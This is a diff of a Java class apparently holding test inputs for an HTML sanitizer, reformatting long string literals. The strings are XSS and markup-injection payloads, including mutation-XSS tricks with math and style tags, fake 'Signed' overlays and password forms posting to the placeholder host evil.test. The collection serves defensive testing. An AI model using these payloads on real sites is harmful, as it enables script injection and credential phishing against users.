@@ -22,6 +22,7 @@ import dev.tminus.runbook.Start;
 import dev.tminus.runbook.StepBasics;
 import dev.tminus.runbook.StepId;
 import dev.tminus.runbook.TeamName;
+
 import java.time.Duration;
 import java.util.LinkedHashMap;
 import java.util.List;
@@ -63,11 +64,13 @@ public final class Bypasses {
                     "<link rel=stylesheet href=https://evil.test/b.css>",
                     "<div style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Signed</div>",
                     "<p style='position:absolute;top:0'>Passed</p>",
-                    "<div class=\"signbox\"><button class=\"btn primary\">Sign off as QA</button></div>",
+                    "<div class=\"signbox\"><button class=\"btn primary\">Sign off as"
+                        + " QA</button></div>",
                     "<div id=outlet class=drawer>x</div>",
                     "<span slot=tooltip popover>x</span>",
                     "<dialog open>Sign in again</dialog>",
-                    "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
+                    "<form action=https://evil.test><input name=password><button>Sign"
+                        + " in</button></form>",
                     "<form id=f></form><button form=f formaction=https://evil.test>Go</button>",
                     "<input type=image src=https://evil.test/c.png autofocus onfocus=owned=1>",
                     "<textarea>\n<img src=x onerror=owned=2>",
@@ -100,9 +103,11 @@ public final class Bypasses {
                     "<svg><use href=https://evil.test/s.svg#x /></svg>",
                     "<svg><a xlink:href=javascript:owned=12><text>x</text></a></svg>",
                     "<svg><foreignObject><iframe src=https://evil.test/t></foreignObject></svg>",
-                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=owned=13>\">",
+                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x"
+                        + " onerror=owned=13>\">",
                     "<math href=javascript:owned=14>x</math>",
-                    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned=15>",
+                    "<form><math><mtext></form><form><mglyph><style></math><img src"
+                        + " onerror=owned=15>",
                     "<details open ontoggle=owned=16>x</details>",
                     "<marquee onstart=owned=17>x</marquee>",
                     "<body onload=owned=18>",
